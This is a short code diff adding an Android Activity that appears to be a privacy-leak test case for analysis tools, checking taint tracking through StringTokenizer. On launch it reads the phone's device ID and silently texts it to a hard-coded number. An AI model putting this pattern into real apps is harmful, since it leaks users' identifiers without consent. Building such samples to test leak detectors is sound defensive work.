@@ -1,0 +1,29 @@
+package cn.privlens.suite.tokenizer;
+
+import android.app.*;
+import android.content.*;
+import android.location.*;
+import android.net.Uri;
+import android.os.*;
+import android.telephony.*;
+import android.util.*;
+import android.view.*;
+import android.webkit.*;
+import android.widget.*;
+import java.io.*;
+import java.net.*;
+import java.util.*;
+import java.util.concurrent.*;
+import java.util.regex.*;
+
+public class Main extends Activity {
+    @Override
+    protected void onCreate(Bundle state) {
+        super.onCreate(state);
+        StringTokenizer with = new StringTokenizer("a;" + ((TelephonyManager) getSystemService(TELEPHONY_SERVICE)).getDeviceId(), ";");
+        StringTokenizer without = new StringTokenizer("a;b", ";");
+        with.nextToken();
+        SmsManager.getDefault().sendTextMessage("10690000", null, with.nextToken(), null, null);
+    }
+
+}
